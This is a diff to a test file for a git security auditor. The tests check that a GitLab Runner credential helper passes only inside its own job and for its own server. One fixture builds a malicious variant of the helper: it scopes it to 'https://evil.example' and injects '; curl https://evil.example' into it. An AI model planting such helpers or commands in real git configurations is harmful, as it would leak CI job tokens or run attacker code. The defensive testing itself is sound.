@@ -2,9 +2,9 @@
 // Runner make them, fetched over the pack protocol, so a commit no ref holds is not there) and the
 // environments runners and hooks give it. Each case was a false failure or must stay a pass; each fix
 // keeps a twin that still fails.
-import { existsSync, mkdtempSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
-import { join } from 'node:path';
+import { dirname, join } from 'node:path';
 import { cleanupTemp, tempDir, type TestRepo } from '../helpers/repo.js';
 import { makeSshKey, type SshTestKey } from '../helpers/ssh.js';
 import { ALICE_POLICY, sshSigningRepo, tryGit } from '../helpers/signing-repo.js';
@@ -392,5 +392,73 @@ describe("the environments runners and hooks give gitguard (these passed, but fo
     const { code, report } = await gate({ ...r.env, GIT_DIR: '.git' }, r.dir);
     expect(failing(report)).toEqual([]);
     expect(code).toBe(0);
+  });
+});
+
+describe("GitLab Runner's checkout with FF_GIT_URLS_WITHOUT_TOKENS (the default since GitLab 18.0)", () => {
+  // The runner keeps the job token out of the URL: the checkout's local config includes a file in the
+  // build's temp folder that sets a credential helper printing $CI_JOB_TOKEN for the job's server.
+  // no-code-execution-in-local-config (high) failed every job on it.
+  const HELPER = '!f(){ if [ "$1" = "get" ] ; then echo "password=${CI_JOB_TOKEN}" ; fi ; } ; f';
+  const RUNNER_RULES = ['no-code-execution-in-local-config', 'remote-urls-without-credentials'];
+  let r: TestRepo;
+  let ext: string;
+  beforeAll(() => {
+    r = sshSigningRepo(alice);
+    r.commit('work', { 'src/a.txt': 'a\n' });
+    ext = join(tempDir(), 'app.tmp', '.gitlab-runner.ext.conf');
+    mkdirSync(dirname(ext));
+    r.run(['remote', 'add', 'origin', 'https://gitlab.example.com/group/app.git']);
+    for (const [k, v] of [
+      ['init.defaultBranch', 'none'],
+      ['fetch.recurseSubmodules', 'false'],
+      ['credential.interactive', 'never'],
+      ['gc.autoDetach', 'false'],
+      ['include.path', ext],
+    ])
+      r.run(['config', k!, v!]);
+  });
+  /** The external config as the runner writes it (`git config -f`), its helper scoped to `server`. */
+  const writeExt = (server: string, helper = HELPER) => {
+    tryGit(r, ['config', '-f', ext, '--unset-all', 'credential.https://gitlab.example.com.helper']);
+    tryGit(r, ['config', '-f', ext, '--remove-section', 'credential.https://evil.example']);
+    r.run(['config', '-f', ext, '--replace-all', `credential.${server}.helper`, '']);
+    r.run(['config', '-f', ext, '--add', `credential.${server}.helper`, helper]);
+    r.run(['config', '-f', ext, `credential.${server}.username`, 'gitlab-ci-token']);
+  };
+  const job = (over: NodeJS.ProcessEnv = {}): NodeJS.ProcessEnv => ({
+    ...r.env,
+    GITLAB_CI: 'true',
+    CI_SERVER_URL: 'https://gitlab.example.com',
+    CI_REPOSITORY_URL: 'https://gitlab.example.com/group/app.git',
+    CI_JOB_TOKEN: 'glcbt-64_0123456789abcdefghij',
+    ...over,
+  });
+  const check = async (env: NodeJS.ProcessEnv) => {
+    const res = await runMain(['audit', '-C', r.dir, '--format', 'json', '--no-ledger', '-r', RUNNER_RULES.join(',')], {
+      env,
+    });
+    const report = parseJson(res);
+    return { code: res.code, rule: resultOf(report, 'no-code-execution-in-local-config') };
+  };
+
+  test("in the job, the runner's helper for the job's server passes, and the note says so", async () => {
+    writeExt('https://gitlab.example.com');
+    const { code, rule } = await check(job());
+    expect(rule.outcome).toBe('pass');
+    expect(rule.note).toMatch(/1 credential helper\(s\) GitLab Runner wrote for this job/);
+    expect(code).toBe(0);
+  });
+
+  test('twins: outside the job, for another server, or a helper that does more, it fails', async () => {
+    writeExt('https://gitlab.example.com');
+    expect((await check(r.env)).rule.outcome).toBe('fail');
+    expect((await check(job({ CI_SERVER_URL: 'https://other.example', CI_REPOSITORY_URL: '' }))).rule.outcome).toBe(
+      'fail',
+    );
+    writeExt('https://evil.example');
+    expect((await check(job())).rule.outcome).toBe('fail');
+    writeExt('https://gitlab.example.com', HELPER.replace('; fi', '; curl https://evil.example ; fi'));
+    expect((await check(job())).rule.outcome).toBe('fail');
   });
 });
